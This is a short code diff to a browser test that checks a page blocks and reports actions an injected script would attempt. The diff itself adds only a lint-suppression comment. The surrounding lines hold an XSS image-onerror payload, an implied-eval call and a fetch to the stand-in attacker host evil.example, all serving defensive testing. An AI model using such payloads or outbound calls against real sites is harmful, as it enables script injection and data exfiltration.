@@ -87,6 +87,7 @@ test('the browser blocks and reports what an injected script would do', async ({
     }
     return {
       innerHtml: await tried(() => (element.innerHTML = '<img src=x onerror=alert(1)>')),
+      // oxlint-disable-next-line typescript/no-implied-eval -- it is what must fail
       evaluation: await tried(() => later(() => new Function('return 1')())),
       policy: await tried(() => Reflect.get(window, 'trustedTypes').createPolicy('default', {})),
       fetch: await tried(() => fetch('https://evil.example/?lead')),
